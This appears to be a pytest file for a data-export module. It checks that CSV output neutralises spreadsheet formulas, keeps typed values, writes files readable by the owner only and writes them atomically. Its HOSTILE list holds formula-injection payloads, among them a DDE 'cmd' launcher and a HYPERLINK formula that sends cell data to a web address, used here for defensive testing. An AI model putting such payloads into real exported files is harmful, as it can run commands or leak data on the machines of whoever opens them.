"""Frames into files: whole, for the owner only, and with nothing in a CSV that a spreadsheet would run."""

from __future__ import annotations

import csv
import json
import stat
from datetime import UTC, date, datetime
from decimal import Decimal
from pathlib import Path

import polars as pl
import pytest

from leadkit import export
from leadkit.errors import LeadkitError

FULL_WIDTH = ["\uff02=1+1", "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20SUM(A1)", " \uff1d1+1"]
HOSTILE = [
    *FULL_WIDTH,
    "=cmd|' /C calc'!A0",
    "=1+1",
    "+1 515 555 0169",
    "-2+3",
    "-5.00",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\ttext after a tab",
    "\r=1+1",
    "\rtext after a return",
    "\n=1+1",
    " =1+1",
    "   +1",
    "\u00a0=1+1",
    "\u3000@x",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\x00=1+1",
    '"=1+1',
    '"=1+1"',
    "'=1+1",
    "''=1+1",
    "“=1+1”",
    "`=1+1",
    '" \'=HYPERLINK("http://example.com?"&A1,"click")',
    "\u22121",
    "﹦1",
    "=",
    "-",
    "=a,b\nc\"d;e",
]  # fmt: skip
HARMLESS = [
    "",
    " ",
    "hello",
    "'hello'",
    "a=b",
    "1-2",
    "5",
    "user@example.com",
    "é-x",
    "Škoda 🚗",
    "a\rb",
    'say "hi"',
    "#1",
]


def through_csv(frame):
    export.write(frame, Path("x.csv"), csv=True)
    with Path("x.csv").open(newline="", encoding="utf-8") as file:
        return list(csv.reader(file))


@pytest.mark.parametrize("text", HOSTILE)
def test_a_formula_gets_an_apostrophe_and_is_else_kept(text):
    header, row = through_csv(pl.DataFrame({"a": [text], "b": ["x"]}))
    assert row == ["'" + text, "x"]
    assert header == ["a", "b"]


@pytest.mark.parametrize("text", HARMLESS)
def test_any_other_text_stays_as_it_is(text):
    assert through_csv(pl.DataFrame({"a": [text], "b": ["x"]}))[1] == [text, "x"]


def test_what_was_defused_can_be_told_from_what_was_not():
    frame = pl.DataFrame({"text": [*HOSTILE, *HARMLESS]})
    cells = frame.select(export.defused(pl.col("text")))
    rest = pl.col("text").str.slice(1)
    undone = pl.when(pl.col("text").str.starts_with("'") & rest.str.contains(export.FORMULA)).then(rest)
    assert cells.select(undone.otherwise("text")).equals(frame)


def test_the_header_is_defused_as_well():
    assert through_csv(pl.DataFrame({"=mx_Store": [1], "ok": [2]}))[0] == ["'=mx_Store", "ok"]


def test_texts_inside_lists_are_defused_before_they_become_json():
    asked_at = datetime(2026, 8, 1, 9, 30, tzinfo=UTC)
    exchanges = [{"at": asked_at, "question": text, "response": None} for text in HOSTILE]
    frame = pl.DataFrame({"exchanges": [exchanges, [], None], "ids": [["=1", "b"], None, []]})
    cells = through_csv(frame)[1:]
    assert [one["question"] for one in json.loads(cells[0][0])] == ["'" + text for text in HOSTILE]
    assert json.loads(cells[0][0])[0] == {
        "at": "2026-08-01T09:30:00+00:00",
        "question": "'" + HOSTILE[0],
        "response": None,
    }
    assert [row[0] for row in cells[1:]] == ["[]", ""]
    assert [row[1] for row in cells] == ['["\'=1","b"]', "", "[]"]


def test_structs_and_arrays_become_json_at_any_depth():
    deep = pl.Struct({"a": pl.List(pl.Struct({"b": pl.String})), "n": pl.Decimal(38, 6)})
    frame = pl.DataFrame(
        {"deep": [{"a": [{"b": "=x"}, None], "n": Decimal("-1.5")}, None], "pair": [["+1", "2"], None]},
        schema={"deep": deep, "pair": pl.Array(pl.String, 2)},
    )
    cells = through_csv(frame)[1:]
    assert json.loads(cells[0][0])["a"] == [{"b": "'=x"}, None]
    assert json.loads(cells[0][1]) == ["'+1", "2"]
    assert cells[1] == ["", ""]


def test_typed_cells_stay_what_they_are():
    frame = pl.DataFrame(
        {
            "money": [Decimal("-5.00")],
            "count": [-3],
            "share": [-0.25],
            "day": [date(2026, 8, 1)],
            "at": [datetime(2026, 8, 1, 9, 30, 0, 250000, tzinfo=UTC)],
            "local": [datetime(2026, 8, 1, 9, 30)],  # noqa: DTZ001 - a frame of the user's own may have such
            "yes": [True],
            "kind": pl.Series(["=x"], dtype=pl.Categorical),
        },
        schema_overrides={"money": pl.Decimal(38, 6)},
    )
    row = through_csv(frame)[1]
    assert row == [
        "-5.000000", "-3", "-0.25", "2026-08-01", "2026-08-01T09:30:00.250+00:00", "2026-08-01T09:30:00", "true", "'=x",
    ]  # fmt: skip
    assert pl.read_csv(Path("x.csv"), schema_overrides={"money": pl.Decimal(38, 6)})["money"][0] == Decimal(-5)


def test_a_time_in_another_zone_keeps_its_offset():
    at = pl.Series([datetime(2026, 8, 1, 9, 30, tzinfo=UTC)]).dt.convert_time_zone("America/Chicago")
    assert through_csv(pl.DataFrame({"at": at}))[1] == ["2026-08-01T04:30:00-05:00"]


def test_null_and_an_empty_text_are_told_apart():
    export.write(pl.DataFrame({"a": ["", None], "b": ["x", "x"]}), Path("x.csv"), csv=True)
    assert Path("x.csv").read_text() == 'a,b\n"",x\n,x\n'


def test_a_frame_without_rows_keeps_its_header():
    assert through_csv(pl.DataFrame(schema={"a": pl.String, "l": pl.List(pl.String)})) == [["a", "l"]]


@pytest.mark.parametrize("as_csv", [False, True])
def test_a_file_is_for_its_owner_only_also_where_another_one_was(as_csv):
    path = Path("x")
    path.write_text("old")
    path.chmod(0o666)
    export.write(pl.DataFrame({"a": [1]}), path, csv=as_csv)
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert path.read_bytes() != b"old"


def test_a_file_that_could_not_be_written_whole_leaves_the_old_one():
    path = Path("x.csv")
    path.write_text("old")
    with pytest.raises(pl.exceptions.ComputeError):
        export.write(pl.DataFrame({"a": [object()]}, schema={"a": pl.Object}), path, csv=True)
    assert [(one.name, one.read_text()) for one in Path().iterdir()] == [("x.csv", "old")]


def test_a_place_that_can_not_be_written_is_told_before_a_fetch():
    with pytest.raises(
        LeadkitError, match=r"nowhere/x\.csv can't be written: No such file or directory\. Name another"
    ):
        export.check_writable(Path("nowhere") / "x.csv")
    with pytest.raises(LeadkitError, match="can't be written: it is a folder"):
        export.check_writable(Path())
    export.check_writable(Path("x.csv"))
    assert list(Path().iterdir()) == []


def test_a_file_that_can_not_be_written_is_told():
    with pytest.raises(LeadkitError, match="can't be written"):
        export.write(pl.DataFrame({"a": [1]}), Path("nowhere") / "x.parquet")
    Path("folder").mkdir()
    with pytest.raises(LeadkitError, match="can't be written"):
        export.write(pl.DataFrame({"a": [1]}), Path("folder"))
    assert [path.name for path in Path().iterdir()] == ["folder"]
